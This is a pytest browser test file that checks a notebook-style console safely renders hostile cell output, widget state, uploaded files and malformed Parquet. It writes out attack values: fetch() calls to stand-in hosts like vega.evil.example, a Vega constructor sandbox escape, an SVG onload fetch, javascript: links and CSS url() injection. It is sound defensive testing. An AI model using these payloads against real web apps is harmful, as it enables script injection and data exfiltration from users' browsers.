"""The console on a session whose code put out all that attacks browsers: nothing of it runs, loads or leads away."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from tests.browser.canary import listening
from tests.browser.chromium import chromium
from tests.browser.hostile_parquet import write_all
from tests.browser.test_console import PANEL, sign_in
from tests.browser.test_hostile_pages import PAYLOADS, WATCHED_SECONDS, click_down, options, require_nothing_acted
from tests.running_service import RunningService

MEDIA_TYPES = ("text/html", "image/svg+xml", "image/png", "text/markdown", "application/javascript")
ATTACK = """
import json, sys
payloads = json.loads({payloads!r})
for payload in payloads:
    for media_type in {media_types!r}:
        display({{media_type: payload}}, raw=True)
    print(payload)
    print(payload, file=sys.stderr)
for figure in json.loads({figures!r}):
    view = {{"application/vnd.jupyter.widget-view+json": {{"model_id": figure["view"]}}}} if "view" in figure else {{}}
    display({{figure["type"]: figure["json"], **view}}, raw=True)
raise type("".join(payloads[:5]).replace(chr(0), ""), (Exception,), {{}})("".join(payloads))
"""
TEXT_OF_ALL = "".join(PAYLOADS)
FIGURES = [
    {
        "type": "application/vnd.plotly.v1+json",
        "json": {
            "data": [
                {"type": "bar", "x": PAYLOADS, "y": [1] * len(PAYLOADS), "name": TEXT_OF_ALL, "hovertext": PAYLOADS},
                {"type": "image", "source": "http://plotly.evil.example/image.png"},
                {"type": "choropleth", "geojson": "http://plotly.evil.example/map.json"},
            ],
            "layout": {
                "title": {"text": TEXT_OF_ALL},
                "images": [{"source": "http://plotly.evil.example/layout.png", "x": 0, "y": 1, "sizex": 1, "sizey": 1}],
                "annotations": [{"text": each, "x": 0, "y": 0} for each in PAYLOADS],
                "font": {"family": "x; } * { background: url(http://plotly.evil.example/font) }"},
            },
            "config": {"plotlyServerURL": "http://plotly.evil.example", "topojsonURL": "http://plotly.evil.example/"},
        },
    },
    {
        "type": "application/vnd.vegalite.v6.json",
        "json": {
            "data": {"url": "http://vega.evil.example/data.json"},
            "title": TEXT_OF_ALL,
            "mark": {"type": "image", "width": 9, "height": 9},
            "encoding": {
                "url": {"value": "http://vega.evil.example/mark.png"},
                "href": {"value": "javascript:fetch(`http://vega.evil.example/href`)"},
            },
        },
    },
    {
        "type": "application/vnd.vega.v6+json",
        "json": {
            "$schema": "https://vega.github.io/schema/vega/v6.json",
            "width": 200,
            "height": 200,
            "signals": [
                {"name": "a", "init": "toString.constructor('fetch(`http://vega.evil.example/signal`)')()"},
                {"name": "b", "update": "[].concat.constructor('return this')().fetch('http://vega.evil.example/')"},
            ],
            "marks": [
                {"type": "text", "encode": {"enter": {"text": {"value": each}, "href": {"value": each}}}}
                for each in PAYLOADS
            ],
        },
    },
]
CONTROLS = {"model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0"}
WIDGET = "http://widget.evil.example"
MODELS = {
    "VBox": {"children": [f"IPY_MODEL_{name}" for name in ("VBox", "HTML", "FloatProgress", "Image", "Tab", "Map")]},
    "HTML": {
        "value": TEXT_OF_ALL,
        "description": TEXT_OF_ALL,
        "description_allow_html": True,
        "layout": "IPY_MODEL_Layout",
    },
    "FloatProgress": {"value": 5, "bar_style": '" onload="x', "style": "IPY_MODEL_Layout", "description": TEXT_OF_ALL},
    "Image": {"format": f"svg+xml,<svg onload=\"fetch('{WIDGET}')\">", "width": f"1;background:url({WIDGET})"},
    "Tab": {"titles": PAYLOADS, "children": ["IPY_MODEL_HTML"] * len(PAYLOADS), "selected_index": 0},
    "Map": {"_view_module": WIDGET},
    "Layout": {
        "width": f"url({WIDGET}/width)",
        "border": f"1px solid url({WIDGET}/border)",
        "background": f"url({WIDGET})",
        "bar_color": f"red;background:url({WIDGET}/bar)",
        "visibility": "visible; position: fixed",
    },
}
STATE = {name: {"model_name": f"{name}Model", **CONTROLS, "state": state} for name, state in MODELS.items()}
STATE["Map"] |= {"model_module": f"{WIDGET}/{TEXT_OF_ALL}"}
STATE["Image"]["buffers"] = [{"path": ["value"], "encoding": "base64", "data": PAYLOADS[0]}]
FIGURES.append({"type": "application/vnd.jupyter.widget-state+json", "json": {"state": STATE}, "view": "VBox"})
FLOOD = """
LEAPS, COLOURS = "\\rb", "\\x1b[31mx\\x1b[32my"
for text in ("a" * 30_000 + LEAPS * 30_000, "a" * 400_000 + LEAPS * 200_000, "\\r" * 99_000, COLOURS * 40_000):
    display({"text/plain": text}, raw=True)
print("the end")
"""
TEXTS = """
[...document.querySelectorAll('.outputs .text')].map(each => [...each.querySelectorAll('pre')].reduce(
  ([length, spans], part) => [length + part.innerText.length, spans + part.children.length], [0, 0]))
"""
FRAMES = "[...document.querySelectorAll('iframe')]"
IS_DRAWN = "each => each.offsetHeight !== 60"


@pytest.mark.sample("pages")
def test_nothing_of_it_acts(service: RunningService, tmp_path: Path) -> None:
    asyncio.run(nothing_acts(service, tmp_path))


async def nothing_acts(service: RunningService, directory: Path) -> None:
    code = ATTACK.format(payloads=json.dumps(PAYLOADS), media_types=MEDIA_TYPES, figures=json.dumps(FIGURES))
    with listening() as canary, service.client() as client, client.session("python", name=PAYLOADS[0]) as session:
        assert session.run(code).status == "error"
        async with chromium(directory, options(canary)) as page:
            await sign_in(page, service)
            await page.evaluate(f"location.hash = '#/sessions/{session.id}'")
            frames = 2 * len(PAYLOADS) + len(FIGURES)
            await page.wait_for(f"{FRAMES}.length === {frames}")
            # Each frame has loaded and said how high its content is; some of that is empty. They share one process,
            # which has little of a busy machine: waited for is the next one, each time.
            drawn = 0
            while drawn < frames - 10:
                drawn = await page.wait_for(f"(count => count > {drawn} && count)({FRAMES}.filter({IS_DRAWN}).length)")
            await click_down(page, 200, range(100, 1400, 100))
            await require_nothing_acted(page, canary, service.url)
            assert await page.evaluate("document.querySelector('#app main') !== null && location.pathname") == "/"


@pytest.mark.sample("pages")
def test_text_that_is_dear_to_show_is_shown_in_part(service: RunningService, tmp_path: Path) -> None:
    asyncio.run(is_shown_in_part(service, tmp_path))


async def is_shown_in_part(service: RunningService, directory: Path) -> None:
    with service.client() as client, client.session("python") as session:
        assert session.run(FLOOD).status == "ok"
        async with chromium(directory) as page:
            await sign_in(page, service)
            await page.evaluate(f"location.hash = '#/sessions/{session.id}'")
            await page.wait_for("document.querySelector('.cells')?.innerText.includes('the end')")
            overwritten, long, empty, coloured, end = await page.evaluate(TEXTS)
            assert overwritten == [30_000, 0]
            assert long == [
                50_001,
                0,
            ]  # half of the most that is shown, and of as much of its end the letter that stays
            assert empty[1] == 0
            assert 1_000 < coloured[1] <= 5_000
            assert end[0] < 20
            notes = await page.evaluate(
                "document.querySelector('.cells').innerText.split(' more characters are in').length"
            )
            assert notes == 3


@pytest.mark.sample("pages")
def test_nothing_acts_of_files_that_are_shown(service: RunningService, tmp_path: Path) -> None:
    asyncio.run(no_file_acts(service, tmp_path))


async def no_file_acts(service: RunningService, directory: Path) -> None:
    together = "\n".join(PAYLOADS)
    outputs = [{"output_type": "display_data", "data": {kind: each}} for each in PAYLOADS for kind in MEDIA_TYPES[:2]]
    cells = [
        {"cell_type": "markdown", "source": together},
        {"cell_type": "code", "source": together, "outputs": outputs},
    ]
    files = {"a.html": together, "a.svg": together, "a.csv": together, "a.txt": together}
    files |= {"a.ipynb": json.dumps({"cells": cells})}
    with listening() as canary, service.client() as client, client.session("python") as session:
        for name, text in files.items():
            session.upload(name, text.encode("utf-8", "replace"))
        async with chromium(directory, options(canary)) as page:
            await sign_in(page, service)
            await page.evaluate(f"location.hash = '#/sessions/{session.id}'")
            await page.wait_for(f"{PANEL}('Files')")
            for name in files:
                await page.wait_for(f"{PANEL}('{name}')")
                await page.wait_for("document.querySelector('.preview-body')?.children.length > 0")
                if name == "a.html":
                    await page.wait_for(f"{FRAMES}[0]?.offsetHeight !== 60")
                if name == "a.ipynb":
                    await page.wait_for(f"{FRAMES}.length === {len(PAYLOADS) + 1}")
                await asyncio.sleep(WATCHED_SECONDS / 5)
                await page.evaluate("document.querySelector('[aria-label=\"All files\"]').click()")
            await require_nothing_acted(page, canary, service.url, f"blob:{service.url}")


@pytest.mark.sample("pages")
def test_parquet_that_lies_is_refused_and_the_page_lives(service: RunningService, tmp_path: Path) -> None:
    asyncio.run(is_refused(service, tmp_path))


async def is_refused(service: RunningService, directory: Path) -> None:
    with listening() as canary, service.client() as client, client.session("python") as session:
        files = write_all(PAYLOADS)
        for name, content in files.items():
            session.upload(name, content)
        async with chromium(directory, options(canary)) as page:
            await sign_in(page, service)
            await page.evaluate(f"location.hash = '#/sessions/{session.id}'")
            await page.wait_for(f"{PANEL}('Files')")
            said = {}
            for name in files:
                await page.wait_for(f"{PANEL}('{name}')")
                said[name] = await page.wait_for(
                    "[...document.querySelectorAll('.preview-body table, .preview-body [role=alert]')][0]?.innerText"
                )
                await page.evaluate("document.querySelector('[aria-label=\"All files\"]').click()")
            await require_nothing_acted(page, canary, service.url)
    assert all(each.split("\n")[0][:40].strip() in said["shown.parquet"] for each in PAYLOADS)
    assert said["rows.parquet"].splitlines()[2].split() == ["1", "7"]
    assert said["liar.parquet"].splitlines()[2].split() == ["1", "0"]
    assert "more values than are read here" in said["values.parquet"]
    assert all("unpacks to more than is read here" in said[name] for name in ("length.parquet", "bomb.parquet"))
    refused = [name for name, text in said.items() if "It could not be read as Parquet: " in text]
    assert set(files) - set(refused) == {"shown.parquet", "rows.parquet", "liar.parquet"}
